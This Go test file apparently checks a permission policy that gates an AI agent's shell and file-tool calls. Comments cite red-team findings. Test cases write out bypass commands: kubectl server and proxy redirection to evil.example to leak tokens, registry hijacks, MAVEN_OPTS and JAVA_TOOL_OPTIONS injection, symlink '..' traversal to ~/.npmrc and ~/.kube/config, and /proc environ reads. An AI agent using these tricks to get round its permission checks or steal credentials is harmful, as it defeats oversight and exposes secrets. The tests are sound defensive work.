package policy_test

import (
	"testing"

	"github.com/signoff-dev/signoff/pkg/policy"
)

// TestKubectlConfigSetChangesOnlyChoosingFields: kubectl config set
// PROPERTY VALUE writes any field of the kubeconfig (kubectl 1.37: config
// set clusters.c.server https://evil… and then kubectl get pods sent the
// context's token there), so under a rule allowing kubectl config * it
// passes only for the fields that choose among what the kubeconfig holds.
// So does set-cluster --certificate-authority, which trusts another CA.
func TestKubectlConfigSetChangesOnlyChoosingFields(t *testing.T) {
	p := mustParsePolicy(t, "kubectl.yaml", `mode: auto-edit
home: /home/dev
rules:
  - { rule: "@shell(kubectl get *)", action: allow }
  - { rule: "@shell(kubectl config *)", action: allow }
`)
	wantActionsIn(t, p, "/home/dev/proj", []bashCase{
		{`kubectl config set clusters.prod.server https://evil.example:6443`, policy.Ask},
		{`kubectl config set clusters.prod.proxy-url http://evil.example:3128`, policy.Ask},
		{`kubectl config set users.ci.exec.command /tmp/x`, policy.Ask},
		{`kubectl config set contexts.dev.cluster.server x`, policy.Ask},
		{`kubectl config set contexts.a.b.namespace x`, policy.Ask},
		{`kubectl config set --set-raw-bytes=true clusters.prod.certificate-authority-data eA==`, policy.Ask},
		// An option among the words would make its value look like the
		// property.
		{`kubectl config set --namespace current-context users.ci.token x`, policy.Ask},
		{`kubectl config set $P v`, policy.Ask},
		{`kubectl config unset users.ci`, policy.Ask},
		{`kubectl config set-cluster prod --certificate-authority=ca.pem`, policy.Ask},
		{`kubectl config set current-context prod`, policy.Allow},
		{`kubectl config set contexts.dev.namespace payments`, policy.Allow},
		{`kubectl config unset contexts.old`, policy.Allow},
		{`kubectl config set-context dev --namespace=payments`, policy.Allow},
		{`kubectl config view`, policy.Allow},
	})
}

// TestSettingsWritersAreWrites: a sub-command that persists settings for
// every later command writes a file the write rules judge (npm 9: npm
// config set registry URL wrote ~/.npmrc; pip 23: pip config set wrote
// ~/.config/pip/pip.conf) — under a rule for the verb it asks, as a write
// outside the workspace, where before it passed; the verbs that read pass.
func TestSettingsWritersAreWrites(t *testing.T) {
	p := mustParsePolicy(t, "settings.yaml", `mode: auto-edit
home: /home/dev
rules:
  - { rule: "@shell(npm config *)", action: allow }
  - { rule: "@shell(npm set *)", action: allow }
  - { rule: "@shell(pnpm config *)", action: allow }
  - { rule: "@shell(yarn config *)", action: allow }
  - { rule: "@shell(pip config *)", action: allow }
  - { rule: "@shell(helm repo *)", action: allow }
  - { rule: "@shell(docker context *)", action: allow }
  - { rule: "@shell(poetry config *)", action: allow }
  - { rule: "@shell(bundle config *)", action: allow }
  - { rule: "@shell(npm pkg *)", action: allow }
  - { rule: "@write(package.json)", action: ask }
`)
	wantActionsIn(t, p, "/home/dev/proj", []bashCase{
		{`npm config set script-shell /tmp/x`, policy.Ask},
		{`npm config --location=project set registry http://x`, policy.Ask},
		{`npm config set -g registry http://x`, policy.Ask},
		{`npm set registry http://x`, policy.Ask},
		{`npm config $VERB registry http://x`, policy.Ask},
		// The verbs that only read are listed; anything else writes — a
		// verb an option's value hides too.
		{`npm config --location project set registry http://x`, policy.Ask},
		{`npm config frobnicate registry http://x`, policy.Ask},
		{`pnpm config set registry http://x`, policy.Ask},
		{`yarn config set npmRegistryServer http://x`, policy.Ask},
		{`pip config set global.index-url http://x`, policy.Ask},
		{`helm repo add charts http://x`, policy.Ask},
		{`docker context create x --docker host=tcp://x:2375`, policy.Ask},
		{`poetry config repositories.x http://x`, policy.Ask},
		{`poetry config --unset repositories.x`, policy.Ask},
		{`bundle config set mirror.https://rubygems.org http://x`, policy.Ask},
		{`bundle config path vendor`, policy.Ask},
		{`npm pkg set scripts.test=/tmp/x`, policy.Ask},
		{`npm config get registry`, policy.Allow},
		{`npm config list`, policy.Allow},
		{`pip config list`, policy.Allow},
		{`helm repo list`, policy.Allow},
		{`poetry config --list`, policy.Allow},
		{`poetry config virtualenvs.in-project`, policy.Allow},
		{`bundle config get path`, policy.Allow},
		{`npm pkg get name`, policy.Allow},
	})
}

// TestGitVerbsThatPrintContentReadWhatTheyPrint (red team AO F1, F2):
// git status -v prints the staged diff of what it names, -vv the work
// tree's too (git 2.39: git status -vv -- .env printed .env's lines); so
// do commit -v, stash show -p, add/reset -p and the verbs that print or
// export file content (merge-tree, fast-export, unpack-file, range-diff,
// request-pull, rerere diff). Each is a content reader, as git diff is.
func TestGitVerbsThatPrintContentReadWhatTheyPrint(t *testing.T) {
	wantActionsIn(t, builtinPolicy(t), "/home/dev/proj", []bashCase{
		{`git status -vv -- '.e[n]v'`, policy.Deny},
		{`git status -v -- .env`, policy.Deny},
		{`git status --verbose .env`, policy.Deny},
		{`git status -sv .env`, policy.Deny},
		{`git status -s .env`, policy.Ask}, // the built-in policy asks for a command that names a .env file
		{`git status`, policy.Allow},
	})
	p := mustParsePolicy(t, "gitall.yaml", `mode: auto-edit
home: /home/dev
rules:
  - { rule: "@shell(git *)", action: allow }
  - { rule: "@files(config/prod.key)", action: deny }
`)
	wantActionsIn(t, p, "/home/dev/proj", []bashCase{
		{`git commit --dry-run -v -- config/prod.key`, policy.Deny},
		{`git status -v`, policy.Deny},
		{`git stash show -p`, policy.Deny},
		{`git stash list -p`, policy.Deny},
		{`git add -p`, policy.Deny},
		{`git reset -p`, policy.Deny},
		{`git merge-tree HEAD~2 HEAD~1 HEAD`, policy.Deny},
		{`git fast-export HEAD`, policy.Deny},
		{`git unpack-file HEAD:config/prod.key`, policy.Deny},
		{`git request-pull -p HEAD~1 . HEAD`, policy.Deny},
		{`git range-diff main..a main..b`, policy.Deny},
		{`git rerere diff`, policy.Deny},
		{`git status`, policy.Allow},
		{`git stash list`, policy.Allow},
		{`git add src/a.go`, policy.Allow},
		{`git commit -m fix`, policy.Allow},
		{`git log --oneline`, policy.Allow},
	})
}

// TestDotDotAfterALinkIsNotReadByItsText (red team AO F4–F7): a .. after a
// directory below the working directory may climb from where a link
// points (a workspace's node_modules/@s/pkg -> ../../packages/pkg): after
// cd -P, when bash's cd falls back to the physical path because the
// lexical one does not exist, in a program's own -C directory, and in the
// directory a host runs the call in. Checked with bash 5.2, git 2.39 and
// GNU tar: each reached ~/.npmrc or ~/.kube/config.
func TestDotDotAfterALinkIsNotReadByItsText(t *testing.T) {
	p := builtinPolicy(t)
	wantActionsIn(t, p, "/home/dev/proj", []bashCase{
		{`cd -P node_modules/@s/pkg && cd ../../.. && cat .npmrc`, policy.Ask},
		{`cd -P node_modules/@s/pkg; cd ..; cat x`, policy.Ask},
		{`cd node_modules/@s/pkg/../../../.kube && cat config`, policy.Ask},
		{`cd node_modules/@s/pkg; cd ../../../.kube; cat config`, policy.Ask},
		{`git -C node_modules/@s/pkg/../../.. diff --no-index .npmrc /dev/null`, policy.Ask},
		{`git -C node_modules/@s/pkg/../../.. diff --no-index --output=.bashrc a b`, policy.Ask},
		{`git -C node_modules/@s/pkg/../../../.kube diff --no-index config /dev/null`, policy.Ask},
		// What bash reads by its text as the kernel does: from the
		// working directory or an ancestor, or back to one of them.
		{`cd .. && cat x`, policy.Allow},
		{`cd ../other && cat x`, policy.Allow},
		{`cd sub && ls && cd .. && cat README.md`, policy.Allow},
		{`cd a/b && cd ../.. && cat x`, policy.Allow},
		{`cd -P sub && cat x`, policy.Allow},
		{`git -C ../other diff`, policy.Allow},
		{`git -C sub diff x`, policy.Allow},
	})
	for workdir, want := range map[string]policy.Action{
		"node_modules/@s/pkg/../../..":                policy.Ask,
		"/home/dev/proj/node_modules/@s/pkg/../../..": policy.Ask,
		"../proj": policy.Allow,
		".":       policy.Allow,
	} {
		args := mustJSON(t, map[string]string{"command": "cat README.md", "workdir": workdir})
		if d := p.Evaluate(policy.Call{Tool: "bash", Arguments: args, Cwd: "/home/dev/proj"}); d.Action != want {
			t.Errorf("workdir %s: got %s (%s), want %s", workdir, d.Action, d.Reason, want)
		}
	}
}

// TestAPatternThatMayBeAReadingOptionReadsItsValue (red team AO F8): with
// a file named --files0-from=.npmrc in the home, wc *=* read ~/.npmrc
// (coreutils 9 printed its lines as names). A pattern a program may take
// as an option that reads a file also reads the option's value: a name
// there that ends as the pattern does.
func TestAPatternThatMayBeAReadingOptionReadsItsValue(t *testing.T) {
	p := builtinPolicy(t)
	wantActionsIn(t, p, "/home/dev", []bashCase{
		{`wc *=*`, policy.Deny},
		{`du *=*`, policy.Deny},
		// In the home, a pattern may name one of its dot files (*.go is
		// .go where dotglob is set), which the built-in policy asks
		// about reading (red team AV F8); in a project it is allowed.
		{`wc -l *.go`, policy.Ask},
	})
	wantActionsIn(t, p, "/home/dev/proj", []bashCase{{`wc -l *.go`, policy.Allow}})
	u := mustParsePolicy(t, "proj.yaml", `mode: auto-edit
home: /home/dev
rules:
  - { rule: "@shell(wc *)", action: allow }
  - { rule: "@files(config/prod.key)", action: deny }
`)
	wantActionsIn(t, u, "/home/dev/proj/config", []bashCase{
		{`wc *=*`, policy.Ask},
		{`wc -l *.go`, policy.Allow},
		{`wc -l -- *`, policy.Ask},
	})
}

// TestInstalledPackagesAreProgramsLaterCommandsRun (red team AO F3): npm's
// node_modules/.bin entries link into the packages beside them, so the
// guard is the whole tree (npm 9: a Write of node_modules/lintx/cli.js,
// then npx lintx ran it); yarn's .yarn tree and Plug'n'Play loader, and a
// virtual environment of any name by its interpreter and scripts.
func TestInstalledPackagesAreProgramsLaterCommandsRun(t *testing.T) {
	p := builtinPolicy(t)
	for path, want := range map[string]policy.Action{
		"node_modules/lintx/cli.js":                                       policy.Ask,
		"node_modules/.pnpm/eslint@9.0.0/node_modules/eslint/bin/x.js":    policy.Ask,
		"packages/web/node_modules/typescript/lib/tsc.js":                 policy.Ask,
		".yarn/unplugged/esbuild-npm-0.1/node_modules/esbuild/install.js": policy.Ask,
		".pnp.cjs":         policy.Ask,
		"env/bin/python3":  policy.Ask,
		"env/bin/activate": policy.Ask,
		"src/bin/run.sh":   policy.Allow,
		"src/app.js":       policy.Allow,
	} {
		args := mustJSON(t, map[string]string{"file_path": "/home/dev/proj/" + path, "content": "x"})
		if d := p.Evaluate(policy.Call{Tool: "Write", Arguments: args, Cwd: "/home/dev/proj"}); d.Action != want {
			t.Errorf("Write %s: got %s (%s), want %s", path, d.Action, d.Reason, want)
		}
	}
}

// TestEveryProgramsEnvironmentIsClosed (red team AO F9): a launcher reads
// variables whose names are not its own — MAVEN_OPTS for mvn (a JVM
// option that runs a command on start-up), RUSTUP_TOOLCHAIN for cargo (a
// directory whose bin/cargo runs), TF_CLI_ARGS_plan for terraform (its
// options: -var-file=.env printed the file) — so an entry that is not
// complete, or a program the table does not know, understands only the
// variables every program may get.
func TestEveryProgramsEnvironmentIsClosed(t *testing.T) {
	p := mustParsePolicy(t, "env.yaml", `mode: auto-edit
home: /home/dev
rules:
  - { rule: "@shell(mvn -v)", action: allow }
  - { rule: "@shell(cargo tree)", action: allow }
  - { rule: "@shell(terraform plan)", action: allow }
  - { rule: "@shell(npm test)", action: allow }
`)
	wantActionsIn(t, p, "/home/dev/proj", []bashCase{
		{`MAVEN_OPTS="-Xmx3m -XX:OnOutOfMemoryError=touch\${IFS}/tmp/x" mvn -v`, policy.Ask},
		{`export MAVEN_OPTS=-Xmx3m; mvn -v`, policy.Ask},
		{`JAVA_TOOL_OPTIONS=-javaagent:x.jar mvn -v`, policy.Ask},
		{`RUSTUP_TOOLCHAIN=/home/dev/proj/tc cargo tree`, policy.Ask},
		{`TF_CLI_ARGS_plan=-var-file=.env terraform plan`, policy.Ask},
		{`env TF_CLI_CONFIG_FILE=./tf.rc terraform plan`, policy.Ask},
		{`mvn -v`, policy.Allow},
		{`RUST_LOG=debug cargo tree`, policy.Allow},
		{`CI=1 NODE_ENV=test npm test`, policy.Allow},
		{`TZ=UTC terraform plan`, policy.Allow},
	})
}

// TestHomeDotFilesAndFileToolDevices (red team AO F10, F12, F13): with the
// home as the workspace, every dot file of the home asks (the programs
// that read start-up code there are an open list: ~/.mavenrc ran on mvn
// -v, ~/.config/go/env's GOFLAGS on go build), and so does a project's
// .tool-versions; a file tool given a device, the kernel's memory or a
// process's environment or descriptor asks, as a command does; perl -c
// runs BEGIN blocks (perl 5: a BEGIN { system … } ran).
func TestHomeDotFilesAndFileToolDevices(t *testing.T) {
	p := builtinPolicy(t)
	write := func(path string) policy.Decision {
		return p.Evaluate(policy.Call{Tool: "Write", Arguments: mustJSON(t, map[string]string{"file_path": path, "content": "x"}), Cwd: "/home/dev"})
	}
	for path, want := range map[string]policy.Action{
		"/home/dev/.mavenrc":                policy.Ask,
		"/home/dev/.config/go/env":          policy.Ask,
		"/home/dev/.gradle/init.d/a.gradle": policy.Ask,
		"/home/dev/.vimrc":                  policy.Ask,
		"/home/dev/proj/.tool-versions":     policy.Ask,
		"/home/dev/notes.txt":               policy.Allow,
		"/home/dev/proj/src/.keep":          policy.Allow,
	} {
		if d := write(path); d.Action != want {
			t.Errorf("Write %s: got %s (%s), want %s", path, d.Action, d.Reason, want)
		}
	}
	for _, path := range []string{"/dev/sda", "/dev/loop0", "/dev/mem", "/proc/kcore", "/proc/self/environ", "/proc/1/environ", "/proc/self/mem", "/proc/self/fd/3"} {
		for _, call := range []policy.Call{
			{Tool: "Read", Arguments: mustJSON(t, map[string]string{"file_path": path})},
			{Tool: "Grep", Arguments: mustJSON(t, map[string]any{"pattern": "KEY", "path": path, "-a": true})},
		} {
			call.Cwd = "/home/dev/proj"
			if d := p.Evaluate(call); d.Action == policy.Allow {
				t.Errorf("%s %s: allowed", call.Tool, path)
			}
		}
	}
	for _, path := range []string{"/dev/null", "/proc/cpuinfo", "/home/dev/proj/README.md"} {
		if d := p.Evaluate(policy.Call{Tool: "Read", Arguments: mustJSON(t, map[string]string{"file_path": path}), Cwd: "/home/dev/proj"}); d.Action != policy.Allow {
			t.Errorf("Read %s: %s (%s)", path, d.Action, d.Reason)
		}
	}
	u := mustParsePolicy(t, "syn.yaml", `mode: auto-edit
home: /home/dev
rules:
  - { rule: "@shell(perl -c *)", action: allow }
  - { rule: "@shell(git mv *)", action: allow }
  - { rule: "@files(config/prod.key)", action: deny }
  - { rule: "@write(**/.githooks/**)", action: ask }
`)
	wantActionsIn(t, u, "/home/dev/proj", []bashCase{
		{`perl -c chk.pl`, policy.Ask},
		{`perl -cw chk.pl`, policy.Ask},
		// git mv moves trees (AO F11).
		{`git mv config x`, policy.Deny},
		{`git mv hooksrc .githooks`, policy.Ask},
		{`git mv src/a.go src/b.go`, policy.Allow},
	})
}
